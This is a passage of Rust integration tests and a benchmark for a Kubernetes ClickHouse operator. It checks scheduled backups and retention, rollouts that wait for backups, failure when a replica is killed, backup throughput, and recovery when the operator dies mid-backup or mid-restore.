    let listener = tokio::net::TcpListener::bind("0.0.0.0:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let relayed = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = relayed.clone();
    tokio::spawn(async move {
        loop {
            let Ok((mut inbound, _)) = listener.accept().await else {
                return;
            };
            let counter = counter.clone();
            tokio::spawn(async move {
                let mut head = Vec::new();
                let mut buf = [0u8; 4096];
                while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                    match inbound.read(&mut buf).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => head.extend_from_slice(&buf[..n]),
                    }
                }
                let line = String::from_utf8_lossy(&head)
                    .lines()
                    .next()
                    .unwrap_or_default()
                    .to_string();
                let Some(target) = line
                    .split_whitespace()
                    .nth(1)
                    .and_then(|u| u.strip_prefix("http://"))
                    .and_then(|u| u.split('/').next())
                    .map(str::to_string)
                else {
                    return;
                };
                let Ok(mut outbound) = tokio::net::TcpStream::connect(&target).await else {
                    return;
                };
                counter.fetch_add(1, Ordering::SeqCst);
                if outbound.write_all(&head).await.is_ok() {
                    let _ = tokio::io::copy_bidirectional(&mut inbound, &mut outbound).await;
                }
            });
        }
    });
    let network = std::fs::read_to_string(kubeconfig().with_file_name("network")).unwrap();
    let gateway = network
        .lines()
        .find_map(|l| l.strip_prefix("GATEWAY="))
        .unwrap()
        .to_string();
    Proxy {
        for_pods: format!("http://{gateway}:{port}"),
        relayed,
    }
}

/// S2-40: a schedule `*/1 * * * *` with `keep: 2` creates a backup each minute (incremental
/// on the one before); retention removes the oldest successful ones with their data, never a
/// part a kept backup still references; no backup is created while the cluster is paused.
/// Decision 26: the cluster's `backup.agent` settings reach every agent pod (labels, annotations,
/// tolerations, resources, pull secrets, environment), and with `HTTP_PROXY` among them every
/// agent reaches the bucket through that proxy (a relay in this test process that counts what
/// it carried) while still reaching its server directly.
#[tokio::test]
async fn scheduled_backups_run_each_minute_keep_two_and_stop_while_paused() {
    let (server, client, ns, op) = setup("sched", &[]).await;
    let relay = proxy().await;
    create_cluster(
        &client,
        &ns,
        "c1",
        json!({"shards": 1, "replicas": 1, "keeper": {"replicas": 1}, "storage": {"size": "1Gi"},
               "backup": {"destination": {"endpoint": server.for_pods, "insecure": true, "bucket": BUCKET,
                                          "secretName": "s3-creds"},
                          "schedules": [{"name": "minutely", "schedule": "*/1 * * * *",
                                         "keep": 2, "incremental": true}],
                          "agent": {"env": [{"name": "HTTP_PROXY", "value": relay.for_pods}],
                                    "labels": {"team": "db"}, "annotations": {"example.com/note": "backup"},
                                    "tolerations": [{"key": "dedicated", "operator": "Exists", "effect": "NoExecute"}],
                                    "resources": {"requests": {"cpu": "10m", "memory": "32Mi"}},
                                    "imagePullSecrets": [{"name": "registry"}]}}}),
    )
    .await;
    // every agent pod, as created, while the test runs
    let pods: Api<Pod> = Api::namespaced(client.clone(), &ns);
    let agent_pods = std::sync::Arc::new(std::sync::Mutex::new(Vec::<Pod>::new()));
    let watcher = {
        let (pods, seen) = (pods.clone(), agent_pods.clone());
        tokio::spawn(async move {
            loop {
                if let Ok(list) = pods
                    .list(
                        &ListParams::default()
                            .labels("app.kubernetes.io/name=clickhouse-backup-agent"),
                    )
                    .await
                {
                    let mut seen = seen.lock().unwrap();
                    for p in list.items {
                        if !seen.iter().any(|s| s.metadata.uid == p.metadata.uid) {
                            seen.push(p);
                        }
                    }
                }
                tokio::time::sleep(Duration::from_secs(1)).await;
            }
        })
    };
    wait_ready(&client, &ns, "c1", 1).await;
    let ch = sql_client(&client, &ns, "c1", "c1-0-0-0").await;
    exec(
        &ch,
        "CREATE TABLE default.t (x UInt64) ENGINE = MergeTree ORDER BY x",
    )
    .await;
    exec(
        &ch,
        "INSERT INTO default.t SELECT number FROM system.numbers LIMIT 100000",
    )
    .await;
    let api: Api<ClickHouseBackup> = Api::namespaced(client.clone(), &ns);
    let lp = kube::api::ListParams::default().labels("clickhouse.com/schedule=minutely");
    let mut seen = std::collections::BTreeSet::new();
    let mut most_succeeded = 0;
    let started = std::time::Instant::now();
    let kept = loop {
        assert!(
            started.elapsed() < Duration::from_secs(330),
            "four scheduled backups did not happen in time: {seen:?}"
        );
        let now = api.list(&lp).await.unwrap().items;
        let succeeded: Vec<&ClickHouseBackup> = now
            .iter()
            .filter(|b| {
                b.status
                    .as_ref()
                    .is_some_and(|s| s.state == BackupState::Succeeded)
            })
            .collect();
        most_succeeded = most_succeeded.max(succeeded.len());
        seen.extend(now.iter().map(|b| b.name_any()));
        let settled = now.iter().all(|b| {
            b.status
                .as_ref()
                .is_some_and(|s| matches!(s.state, BackupState::Succeeded | BackupState::Failed))
        });
        if seen.len() >= 4 && settled && succeeded.len() == 2 {
            break succeeded.into_iter().cloned().collect::<Vec<_>>();
        }
        tokio::time::sleep(Duration::from_secs(2)).await;
    };
    println!(
        "scheduled backups seen: {seen:?}; kept: {:?}",
        kept.iter().map(|b| b.name_any()).collect::<Vec<_>>()
    );
    // retention runs every few seconds: a new success may stand beside the two for one tick
    assert!(
        most_succeeded <= 3,
        "{most_succeeded} successful backups at once"
    );
    let b = bucket(&format!("{ns}/c1"));
    for gone in seen
        .iter()
        .filter(|n| !kept.iter().any(|k| k.name_any() == **n))
    {
        assert!(
            b.get(&manifest::manifest_key(gone), u64::MAX)
                .await
                .unwrap()
                .is_none(),
            "{gone}'s manifest is removed"
        );
    }
    for k in &kept {
        let m = b
            .get(&manifest::shard_manifest_key(&k.name_any(), 0), u64::MAX)
            .await
            .unwrap()
            .expect("a kept backup's shard manifest");
        let m: manifest::ShardManifest = serde_json::from_slice(&m).unwrap();
        for p in m.tables.iter().flat_map(|t| t.parts.iter()) {
            let files = b.list(&format!("{}/", p.key)).await.unwrap();
            assert_eq!(
                files.len(),
                p.files.len(),
                "{} of {} is whole",
                p.key,
                k.name_any()
            );
        }
    }
    assert!(
        kept.iter()
            .any(|k| k.status.as_ref().unwrap().bytes_reused > 0),
        "incremental backups reuse parts"
    );
    patch_spec(&client, &ns, "c1", json!({"pause": true})).await;
    wait_status(&client, &ns, "c1", READY, "paused", |s| {
        s.state == clickhouse_operator::api::ClusterState::Paused
    })
    .await;
    let before: Vec<String> = api
        .list(&lp)
        .await
        .unwrap()
        .items
        .iter()
        .map(|b| b.name_any())
        .collect();
    tokio::time::sleep(Duration::from_secs(75)).await;
    let after: Vec<String> = api
        .list(&lp)
        .await
        .unwrap()
        .items
        .iter()
        .map(|b| b.name_any())
        .collect();
    let created: Vec<&String> = after.iter().filter(|n| !before.contains(n)).collect();
    assert!(
        created.is_empty(),
        "backups created while paused: {created:?}"
    );
    watcher.abort();
    let seen = agent_pods.lock().unwrap().clone();
    assert!(!seen.is_empty(), "agent pods were seen");
    for p in &seen {
        let labels = p.metadata.labels.clone().unwrap_or_default();
        assert_eq!(
            labels.get("team").map(String::as_str),
            Some("db"),
            "{:?}",
            p.metadata.name
        );
        assert_eq!(
            p.metadata
                .annotations
                .clone()
                .unwrap_or_default()
                .get("example.com/note")
                .map(String::as_str),
            Some("backup")
        );
        let spec = p.spec.clone().unwrap();
        assert_eq!(spec.image_pull_secrets.unwrap()[0].name, "registry");
        assert!(
            spec.tolerations
                .unwrap_or_default()
                .iter()
                .any(|t| t.key.as_deref() == Some("dedicated"))
        );
        let c = &spec.containers[0];
        assert!(
            c.resources
                .as_ref()
                .and_then(|r| r.requests.as_ref())
                .is_some_and(|r| r.contains_key("memory"))
        );
        assert!(
            c.env
                .clone()
                .unwrap_or_default()
                .iter()
                .any(|e| e.name == "HTTP_PROXY")
        );
    }
    let relayed = relay.relayed.load(std::sync::atomic::Ordering::SeqCst);
    println!(
        "{} agent pods, {relayed} connections to the bucket through the proxy",
        seen.len()
    );
    assert!(
        relayed > 0,
        "the agents reached the bucket through the proxy"
    );
    let mut secrets = vec![ACCESS.to_string(), SECRET.to_string()];
    secrets.extend(operator_secrets(&client, &ns, "c1").await);
    assert_no_secret_leaked(&client, &ns, &secrets, true).await;
    finish(&client, &ns, op).await;
}

/// S2-27: a Smart Update waits while a backup of the cluster is `Running` and says so; no
/// server pod is deleted until the backup is over. Here the backup's agent cannot start (the
/// operator is told to run an image that does not exist), so the backup stays `Running` until
/// the operator gives up on its agent (after two minutes) and fails it, naming the cause; then
/// the rollout goes on and every pod restarts once.
#[tokio::test]
async fn a_rollout_waits_while_a_backup_runs() {
    let (server, client, ns, op) = setup(
        "bkroll",
        &[("OPERATOR_IMAGE", "registry.invalid/agent:none")],
    )
    .await;
    create_cluster(
        &client,
        &ns,
        "c1",
        json!({"shards": 1, "replicas": 2, "keeper": {"replicas": 1}, "storage": {"size": "1Gi"},
               "backup": {"destination": {"endpoint": server.for_pods, "insecure": true, "bucket": BUCKET,
                                          "secretName": "s3-creds"}}}),
    )
    .await;
    wait_ready(&client, &ns, "c1", 1).await;
    let before = pod_ids(&client, &ns, "app.kubernetes.io/component=server").await;
    start_backup(&client, &ns, "slow", json!({"clusterName": "c1"})).await;
    let api: Api<ClickHouseBackup> = Api::namespaced(client.clone(), &ns);
    wait_for(Duration::from_secs(60), "backup slow Running", || {
        let api = api.clone();
        async move {
            let s = api.get("slow").await.ok()?.status?;
            (s.state == BackupState::Running).then_some(())
        }
    })
    .await;
    patch_spec(
        &client,
        &ns,
        "c1",
        json!({"pod": {"env": [{"name": "ROLLED", "value": "1"}]}}),
    )
    .await;
    let cluster = wait_status(&client, &ns, "c1", READY, "the rollout waiting", |s| {
        s.observed_generation == Some(2)
            && s.message
                .as_deref()
                .is_some_and(|m| m.contains("waiting for backup slow"))
    })
    .await;
    println!("{:?}", cluster.status.and_then(|s| s.message));
    let mut waited = std::time::Instant::now();
    loop {
        let b = api.get("slow").await.unwrap();
        let state = b.status.as_ref().unwrap().state;
        if state != BackupState::Running {
            let message = b.status.unwrap().message.unwrap_or_default();
            println!("backup slow: {state:?}: {message}");
            assert_eq!(state, BackupState::Failed);
            assert!(message.contains("cannot start"), "{message}");
            break;
        }
        assert_eq!(
            pod_ids(&client, &ns, "app.kubernetes.io/component=server").await,
            before,
            "no server pod restarted while the backup runs"
        );
        assert!(
            waited.elapsed() < Duration::from_secs(240),
            "the backup never ended"
        );
        tokio::time::sleep(Duration::from_secs(2)).await;
    }
    waited = std::time::Instant::now();
    wait_ready(&client, &ns, "c1", 2).await;
    println!("rolled {:?} after the backup ended", waited.elapsed());
    let after = pod_ids(&client, &ns, "app.kubernetes.io/component=server").await;
    for (pod, (uid, _)) in &before {
        assert_ne!(&after[pod].0, uid, "{pod} restarted after the backup");
    }
    let mut secrets = vec![ACCESS.to_string(), SECRET.to_string()];
    secrets.extend(operator_secrets(&client, &ns, "c1").await);
    assert_no_secret_leaked(&client, &ns, &secrets, false).await;
    finish(&client, &ns, op).await;
}

/// S0-04, decision 26: the backup replica's pod deleted (its server stopped, the pod recreated by
/// its StatefulSet) while the agent works. The backup ends `Failed`
/// naming the replica and the cause, its manifest is never written (nothing looks complete), and
/// the next backup, once the replica is back, succeeds and holds every row.
/// Decision 26: the cluster has a further disk (`storage.disks`), which backups once refused: the
/// agent mounts it beside the data volume, and the backup and its restore hold every row. 18.16
/// ignores storage policies, so its parts are all on the data volume here; a freeze that
/// snapshots parts on several disks is read from each (`backup::agent`, not run here).
#[tokio::test]
async fn a_backup_whose_backup_replica_is_killed_fails_and_the_next_one_succeeds() {
    let (server, client, ns, op) = setup("bkkill", &[]).await;
    create_cluster(
        &client,
        &ns,
        "c1",
        json!({"shards": 1, "replicas": 2, "keeper": {"replicas": 1},
               "storage": {"size": "1Gi", "disks": [{"name": "cold", "size": "1Gi"}]},
               "backup": {"destination": {"endpoint": server.for_pods, "insecure": true, "bucket": BUCKET,
                                          "secretName": "s3-creds"}}}),
    )
    .await;
    let ready = wait_ready(&client, &ns, "c1", 1).await;
    let map = ready.status.unwrap().replica_state_map;
    let victim = map
        .iter()
        .find(|(_, r)| r.is_backup_pod)
        .map(|(n, _)| n.clone())
        .unwrap();
    let ch = sql_client(&client, &ns, "c1", &format!("{victim}-0")).await;
    exec(&ch, "CREATE TABLE default.events ON CLUSTER c1 (batch UInt64, id UInt64, payload String) ENGINE = ReplicatedMergeTree('/clickhouse/tables/{shard}/default/events', '{replica}') PARTITION BY batch ORDER BY (batch, id)").await;
    // many parts, so that the agent is still at work when its server is killed
    for first in [0, 100, 200, 300, 400, 500] {
        exec(&ch, &format!("INSERT INTO default.events SELECT {first} + number % 100, number, toString(rand64()) FROM system.numbers LIMIT 100000")).await;
    }
    let rows = query(&ch, "SELECT count() AS v FROM default.events").await[0].clone();

    start_backup(&client, &ns, "killed", json!({"clusterName": "c1"})).await;
    let pods: Api<Pod> = Api::namespaced(client.clone(), &ns);
    let lp = ListParams::default().labels(&format!("{BACKUP_LABEL}=killed"));
    wait_for(Duration::from_secs(120), "the agent at work", || {
        let (pods, lp) = (pods.clone(), lp.clone());
        async move {
            let listed = pods.list(&lp).await.ok()?.items;
            listed
                .iter()
                .any(|p| p.status.as_ref().and_then(|s| s.phase.as_deref()) == Some("Running"))
                .then_some(())
        }
    })
    .await;
    let agent = pods
        .list(&lp)
        .await
        .unwrap()
        .items
        .into_iter()
        .next()
        .unwrap();
    let claims: Vec<String> = agent
        .spec
        .unwrap()
        .volumes
        .unwrap_or_default()
        .iter()
        .filter_map(|v| Some(v.persistent_volume_claim.as_ref()?.claim_name.clone()))
        .collect();
    assert!(
        claims.contains(&format!("disk-cold-{victim}-0")),
        "the agent mounts the further disk: {claims:?}"
    );
    let killed_at = std::time::Instant::now();
    pods.delete(&format!("{victim}-0"), &DeleteParams::default())
        .await
        .unwrap();
    let b = wait_backup_done(&client, &ns, "killed").await;
    let s = b.status.unwrap();
    let message = s.message.clone().unwrap_or_default();
    println!(
        "backup killed: {:?} {:?} after the kill: {message}",
        s.state,
        killed_at.elapsed()
    );
    assert_eq!(s.state, BackupState::Failed, "{message}");
    assert!(message.contains(&victim), "{message}");
    assert!(message.contains("during the backup"), "{message}");
    assert!(s.manifest.is_none());
    assert!(
        bucket(&format!("{ns}/c1"))
            .get(&manifest::manifest_key("killed"), u64::MAX)
            .await
            .unwrap()
            .is_none(),
        "no manifest of the failed backup"
    );
    wait_for(
        Duration::from_secs(60),
        "the failed backup's agent gone",
        || {
            let (pods, lp) = (pods.clone(), lp.clone());
            async move { pods.list(&lp).await.ok()?.items.is_empty().then_some(()) }
        },
    )
    .await;
    wait_ready(&client, &ns, "c1", 1).await;
    let started = std::time::Instant::now();
    start_backup(&client, &ns, "after", json!({"clusterName": "c1"})).await;
    let after = wait_backup_done(&client, &ns, "after")
        .await
        .status
        .unwrap();
    println!(
        "backup after: {:?} in {:?}, {} bytes in {} parts",
        after.state,
        started.elapsed(),
        after.bytes_uploaded,
        after.shards.iter().map(|s| s.parts_uploaded).sum::<u64>()
    );
    assert_eq!(after.state, BackupState::Succeeded, "{:?}", after.message);
    assert_eq!(after.shards[0].replica, victim);
    // every row is in it: the table dropped, restored from it, whole on both replicas
    let ch = sql_client(&client, &ns, "c1", &format!("{victim}-0")).await;
    exec(&ch, "DROP TABLE default.events ON CLUSTER c1").await;
    start_restore(
        &client,
        &ns,
        "back",
        json!({"clusterName": "c1", "backupName": "after"}),
    )
    .await;
    let r = wait_restore_done(&client, &ns, "back")
        .await
        .status
        .unwrap();
    assert_eq!(r.state, RestoreState::Succeeded, "{:?}", r.message);
    let replicas: Vec<String> = map.keys().cloned().collect();
    wait_for(
        Duration::from_secs(120),
        "every row on both replicas",
        || {
            let (client, ns, replicas, rows) =
                (client.clone(), ns.clone(), replicas.clone(), rows.clone());
            async move {
                for replica in &replicas {
                    let c = sql_client(&client, &ns, "c1", &format!("{replica}-0")).await;
                    let n = c
                        .query(
                            "SELECT toString(count()) AS v FROM default.events",
                            &QueryOptions::new(),
                        )
                        .await
                        .ok()?;
                    let v = n.iter().next()?.str("v").ok()?.to_string();
                    if v != rows {
                        println!("{replica}: {v} rows of {rows}");
                        return None;
                    }
                }
                Some(())
            }
        },
    )
    .await;
    let mut secrets = vec![ACCESS.to_string(), SECRET.to_string()];
    secrets.extend(operator_secrets(&client, &ns, "c1").await);
    assert_no_secret_leaked(&client, &ns, &secrets, true).await;
    finish(&client, &ns, op).await;
}

/// Empties the page cache (as root), so that each measurement reads from the disk; says whether
/// it could.
fn drop_page_cache() -> bool {
    let _ = Command::new("sync").status();
    std::fs::write("/proc/sys/vm/drop_caches", "3").is_ok()
}

/// Benchmark (docs/internals.md, "Benchmarks"), not a test: backup and restore throughput of a
/// table of at least 1 GiB on disk (random 64-bit columns, which do not compress), beside a plain
/// copy of the same parts on the same disk and to and from the same S3 server by another client
/// (curl, SigV4, four files at a time). The backup and restore times include the operator's passes
/// and the agent Jobs' start. Run it with `hack/bench.sh backup`.
#[tokio::test]
#[ignore = "a benchmark: hack/bench.sh backup"]
async fn benchmark_backup_and_restore_throughput() {
    let gib: f64 = std::env::var("BENCH_GIB")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(1.0);
    let (server, client, ns, op) = setup("bench", &[]).await;
    create_cluster(
        &client,
        &ns,
        "c1",
        json!({"shards": 1, "replicas": 1, "keeper": {"replicas": 1}, "storage": {"size": "20Gi"},
               "backup": {"destination": {"endpoint": server.for_pods, "insecure": true, "bucket": BUCKET,
                                          "secretName": "s3-creds"}}}),
    )
    .await;
    let ready = wait_ready(&client, &ns, "c1", 1).await;
    let replica = ready
        .status
        .unwrap()
        .replica_state_map
        .keys()
        .next()
        .unwrap()
        .clone();
    let ch = sql_client(&client, &ns, "c1", &format!("{replica}-0")).await;
    exec(&ch, "CREATE TABLE default.big (id UInt64, a UInt64, b UInt64, c UInt64, d UInt64) ENGINE = ReplicatedMergeTree('/clickhouse/tables/{shard}/default/big', '{replica}') ORDER BY id").await;
    // 40 bytes a row, of which only the sorted ids compress (to about 36 bytes on disk)
    let rows = (gib * 1024.0 * 1024.0 * 1024.0 / 36.0) as u64 + 1_000_000;
    let loaded = std::time::Instant::now();
    let step = 5_000_000;
    let mut first = 0;
    while first < rows {
        exec(&ch, &format!("INSERT INTO default.big SELECT {first} + number, rand64(), rand64(1), rand64(2), rand64(3) FROM system.numbers LIMIT {}", step.min(rows - first))).await;
        first += step;
    }
    // the same parts for every copy below: no merge from here on
    exec(&ch, "SYSTEM STOP MERGES default.big").await;
    wait_for(
        Duration::from_secs(300),
        "merges of default.big to end",
        || {
            let ch = ch.clone();
            async move {
                let running = ch
                    .query(
                        "SELECT count() AS v FROM system.merges WHERE table = 'big'",
                        &QueryOptions::new(),
                    )
                    .await
                    .ok()?;
                (running.iter().next()?.str("v").ok()? == "0").then_some(())
            }
        },
    )
    .await;
    let active: Vec<String> = query(&ch, "SELECT name AS v FROM system.parts WHERE database = 'default' AND table = 'big' AND active ORDER BY name").await;
    let bytes: u64 = query(&ch, "SELECT sum(bytes_on_disk) AS v FROM system.parts WHERE database = 'default' AND table = 'big' AND active").await[0].parse().unwrap();
    let parts = query(&ch, "SELECT count() AS v FROM system.parts WHERE database = 'default' AND table = 'big' AND active").await[0].clone();
    println!(
        "loaded {rows} rows, {:.2} GiB in {parts} parts, in {:.1?}",
        bytes as f64 / (1u64 << 30) as f64,
        loaded.elapsed()
    );
    let mib = |b: u64| b as f64 / (1024.0 * 1024.0);

    // a plain copy of the same parts on the same disk
    let volume = volume_path(
        &client,
        &ns,
        &clickhouse_operator::model::names::data_pvc(&replica),
    )
    .await;
    let table_dir = volume.join("data/default/big");
    let copy_to = volume.join("bench-copy");
    let cold = drop_page_cache();
    std::fs::create_dir_all(&copy_to).unwrap();
    let t = std::time::Instant::now();
    let ok = Command::new("cp")
        .arg("-r")
        .args(active.iter().map(|p| table_dir.join(p)))
        .arg(&copy_to)
        .status()
        .unwrap()
        .success();
    let copy_secs = t.elapsed().as_secs_f64();
    assert!(ok, "cp -r {}", table_dir.display());
    let _ = std::fs::remove_dir_all(&copy_to);

    // a plain copy of the same parts to the same S3 server and back, by another client: curl
    // signing each request itself (SigV4), four files at a time, as the agent moves them
    let files: Vec<String> = walk(&table_dir)
        .into_iter()
        .filter(|f| table_dir.join(f).is_file())
        .filter(|f| active.iter().any(|p| f.starts_with(&format!("{p}/"))))
        .collect();
    let curl = |upload: bool| {
        let list = files.join("\n");
        let script = if upload {
            format!(
                "cd {dir} && xargs -P 4 -I{{}} curl -sf --aws-sigv4 aws:amz:us-east-1:s3 --user {ACCESS}:{SECRET} -T {{}} http://127.0.0.1:{S3_PORT}/{BUCKET}/plain-copy/{{}}",
                dir = table_dir.display()
            )
        } else {
            format!(
                "mkdir -p {dir} && cd {dir} && xargs -P 4 -I{{}} curl -sf --create-dirs --aws-sigv4 aws:amz:us-east-1:s3 --user {ACCESS}:{SECRET} -o {{}} http://127.0.0.1:{S3_PORT}/{BUCKET}/plain-copy/{{}}",
                dir = copy_to.display()
            )
        };
        let mut child = Command::new("bash")
            .args(["-c", &script])
            .stdin(Stdio::piped())
            .spawn()
            .unwrap();
        use std::io::Write;
        child
            .stdin
            .take()
            .unwrap()
            .write_all(list.as_bytes())
            .unwrap();
        assert!(
            child.wait().unwrap().success(),
            "curl {}",
            if upload { "upload" } else { "download" }
        );
    };
    let _ = drop_page_cache();
    let t = std::time::Instant::now();
    curl(true);
    let plain_up_secs = t.elapsed().as_secs_f64();
    let _ = drop_page_cache();
    let t = std::time::Instant::now();
    curl(false);
    let plain_down_secs = t.elapsed().as_secs_f64();
    let _ = std::fs::remove_dir_all(&copy_to);

    let _ = drop_page_cache();
    let t = std::time::Instant::now();
    start_backup(&client, &ns, "big", json!({"clusterName": "c1"})).await;
    let b = wait_backup_done(&client, &ns, "big").await.status.unwrap();
    let backup_secs = t.elapsed().as_secs_f64();
    assert_eq!(b.state, BackupState::Succeeded, "{:?}", b.message);

    exec(&ch, "DROP TABLE default.big").await;
    let _ = drop_page_cache();
    let t = std::time::Instant::now();
    start_restore(
        &client,
        &ns,
        "big",
        json!({"clusterName": "c1", "backupName": "big"}),
    )
    .await;
    let r = wait_restore_done(&client, &ns, "big").await.status.unwrap();
    let restore_secs = t.elapsed().as_secs_f64();
    assert_eq!(r.state, RestoreState::Succeeded, "{:?}", r.message);
    let back = query(&ch, "SELECT count() AS v FROM default.big").await[0].clone();
    assert_eq!(back, rows.to_string(), "every row restored");

    println!();
    println!(
        "backup benchmark: {:.0} MiB in {parts} parts, page cache dropped before each: {cold}",
        mib(bytes)
    );
    let row = |what: &str, secs: f64, bytes: u64| {
        println!("{what:<44} {secs:>8.1} {:>10.1}", mib(bytes) / secs)
    };
    println!("{:<44} {:>8} {:>10}", "", "seconds", "MiB/s");
    row("plain copy (cp -r, same disk)", copy_secs, bytes);
    row(
        "plain upload to the same S3 (curl, 4 at once)",
        plain_up_secs,
        bytes,
    );
    row(
        "backup (to S3, object created → Succeeded)",
        backup_secs,
        b.bytes_uploaded,
    );
    row(
        "plain download from the same S3 (curl, 4)",
        plain_down_secs,
        bytes,
    );
    row(
        "restore (from S3, → Succeeded)",
        restore_secs,
        r.bytes_downloaded,
    );
    println!(
        "backup/plain upload time ratio {:.2}, restore/plain download time ratio {:.2}",
        backup_secs / plain_up_secs,
        restore_secs / plain_down_secs
    );
    finish(&client, &ns, op).await;
}

/// Drives `object` (a ClickHouseBackup or ClickHouseRestore, read by `state`) to its end with
/// operators that each die right after one step of a pass they have not died after before (a
/// bucket check, a manifest read or write, an agent Job created, a status written), before
/// anything records it; a new operator takes over each time. Returns the points they died at
/// and, for each agent Job, every UID it had (a Job created twice has two).
async fn drive_with_kills<F, Fut>(
    client: &Client,
    ns: &str,
    label: &str,
    state: F,
) -> (
    Vec<String>,
    BTreeMap<String, std::collections::BTreeSet<String>>,
)
where
    F: Fn() -> Fut,
    Fut: std::future::Future<Output = Option<String>>,
{
    use std::sync::atomic::{AtomicBool, Ordering};
    use std::sync::{Arc, Mutex};

    use clickhouse_operator::controller::{AfterJobStep, Faults, StepPoint};
    use k8s_openapi::api::batch::v1::Job;

    let jobs: Api<Job> = Api::namespaced(client.clone(), ns);
    let lp = ListParams::default().labels(&format!("{BACKUP_LABEL}={label}"));
    let mut uids: BTreeMap<String, std::collections::BTreeSet<String>> = BTreeMap::new();
    let mut kills: Vec<String> = Vec::new();
    let started = std::time::Instant::now();
    loop {
        assert!(
            started.elapsed() < Duration::from_secs(600),
            "{label} did not end: died after {kills:?}"
        );
        let fired = Arc::new(AtomicBool::new(false));
        let last = Arc::new(Mutex::new(String::new()));
        let seen: Arc<std::collections::BTreeSet<String>> =
            Arc::new(kills.iter().cloned().collect());
        let hook: AfterJobStep = {
            let (fired, last) = (fired.clone(), last.clone());
            Arc::new(move |point, what: &str| match point {
                StepPoint::After if !seen.contains(what) => {
                    if !fired.swap(true, Ordering::SeqCst) {
                        *last.lock().unwrap() = what.to_string();
                    }
                    true
                }
                _ => fired.load(Ordering::SeqCst),
            })
        };
        let op = start_operator_with(
            client,
            ns,
            Faults {
                after_job_step: Some(hook),
                ..Default::default()
            },
        )
        .await;
        // Until it dies, or the resource has ended and the operator stayed alive 3 s more
        // (its agents removed).
        let mut ended_since: Option<std::time::Instant> = None;
        let died = loop {
            for j in jobs.list(&lp).await.map(|l| l.items).unwrap_or_default() {
                uids.entry(j.name_any())
                    .or_default()
                    .insert(j.uid().unwrap_or_default());
            }
            if fired.load(Ordering::SeqCst) {
                break true;
            }
            let ended = matches!(state().await.as_deref(), Some("Succeeded") | Some("Failed"));
            match (ended, ended_since) {
                (true, None) => ended_since = Some(std::time::Instant::now()),
                (true, Some(t)) if t.elapsed() > Duration::from_secs(3) => break false,
                (false, _) => ended_since = None,
                _ => {}
            }
            assert!(
                started.elapsed() < Duration::from_secs(600),
                "{label} did not end: died after {kills:?}"
            );
            tokio::time::sleep(Duration::from_millis(200)).await;
        };
        drop(op);
        if !died {
            return (kills, uids);
        }
        kills.push(last.lock().unwrap().clone());
        // the dead operator's pass is aborted with it; give the task a moment to stop
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
}

/// An operator died right after each of `steps`, and each of the 2 shards' agent Jobs had one
/// UID: no agent was created twice.
fn assert_each_step_survived(
    kills: &[String],
    jobs: &BTreeMap<String, std::collections::BTreeSet<String>>,
    steps: &[&str],
) {
    for want in steps {
        assert!(
            kills.iter().any(|k| k == want),
            "no kill after {want:?}: {kills:?}"
        );
    }
    assert_eq!(jobs.len(), 2, "one agent Job per shard: {jobs:?}");
    assert!(
        jobs.values().all(|u| u.len() == 1),
        "an agent Job was created again: {jobs:?}"
    );
}

/// Decisions 24 and 26 (S0-19, invariants 1 and 6 for backups): a backup of a 2-shard × 2-replica
/// cluster under write load, then a restore of it, each driven by operators that die right after
/// every kind of step once (the bucket checked, each shard's agent Job created, the manifest read
/// or written, each status written), before anything records it. Each ends `Succeeded`; no agent
/// Job is ever created twice (one UID per Job); every acknowledged row of the writer is on every
/// replica; the restored table holds exactly the rows it had, on every replica; no Secret value
/// leaked.
#[tokio::test]
async fn a_backup_and_its_restore_survive_the_operator_killed_after_every_step() {
    let (server, client, ns, op) = setup("bkdie", &[]).await;
    create_cluster(
        &client,
        &ns,
        "c1",
        json!({"shards": 2, "replicas": 2, "keeper": {"replicas": 1},
               "backup": {"destination": {"endpoint": server.for_pods, "insecure": true, "bucket": BUCKET,
                                          "secretName": "s3-creds"}}}),
    )
    .await;
    let ready = wait_ready(&client, &ns, "c1", 1).await;
    let replicas: Vec<String> = ready
        .status
        .unwrap()
        .replica_state_map
        .into_keys()
        .collect();
    let ch = sql_client(&client, &ns, "c1", &format!("{}-0", replicas[0])).await;
    // the log trail: each write of the operator is a line naming the namespace, the cluster,
    // the step and why
    let created = trail(&format!("namespace={ns}"));
    assert!(
        created.iter().any(|l| l.contains("cluster=c1")
            && l.contains("step=apply StatefulSet")
            && l.contains("why=")),
        "no log line for the StatefulSets written: {created:?}"
    );
    exec(&ch, "CREATE TABLE default.kept ON CLUSTER c1 (id UInt64) ENGINE = ReplicatedMergeTree('/clickhouse/tables/{shard}/default/kept', '{replica}') ORDER BY id").await;
    let writer = crate::workload::Workload::start(&client, &ns, "c1").await;
    // each shard gets its own rows, written on one replica and replicated to the other
    let mut kept: BTreeMap<String, u64> = BTreeMap::new();
    for (i, replica) in replicas.iter().enumerate() {
        let c = sql_client(&client, &ns, "c1", &format!("{replica}-0")).await;
        exec(&c, &format!("INSERT INTO default.kept SELECT {i} * 1000000 + number FROM system.numbers LIMIT {}", 1000 + i)).await;
    }
    drop(op);

    let backups: Api<ClickHouseBackup> = Api::namespaced(client.clone(), &ns);
    start_backup(&client, &ns, "b1", json!({"clusterName": "c1"})).await;
    let (kills, jobs) = drive_with_kills(&client, &ns, "b1", || {
        let backups = backups.clone();
        async move {
            let s = backups.get("b1").await.ok()?.status?;
            Some(format!("{:?}", s.state))
        }
    })
    .await;
    println!(
        "backup: the operator died after {} steps: {kills:?}",
        kills.len()
    );
    let agents = trail(&format!("namespace={ns}"));
    assert!(
        agents.iter().any(|l| l.contains("kind=ClickHouseBackup")
            && l.contains("name=b1")
            && l.contains("cluster=c1")
            && l.contains("agent job created")),
        "no log line for the agents created: {agents:?}"
    );
    let b = backups.get("b1").await.unwrap().status.unwrap();
    assert_eq!(b.state, BackupState::Succeeded, "{:?}", b.message);
    assert_each_step_survived(
        &kills,
        &jobs,
        &[
            "check the bucket",
            "create the agent of shard 0",
            "create the agent of shard 1",
            "write the manifest of b1",
            "write status Succeeded",
        ],
    );

    // the writer's rows: every acknowledged one on every replica
    let op = start_operator_env(&client, &ns, &[]).await;
    let acked = writer.stop_and_check(&client, &ns).await;
    println!("writer: {acked} batches acknowledged during the backup, each on every replica");
    for replica in &replicas {
        let c = sql_client(&client, &ns, "c1", &format!("{replica}-0")).await;
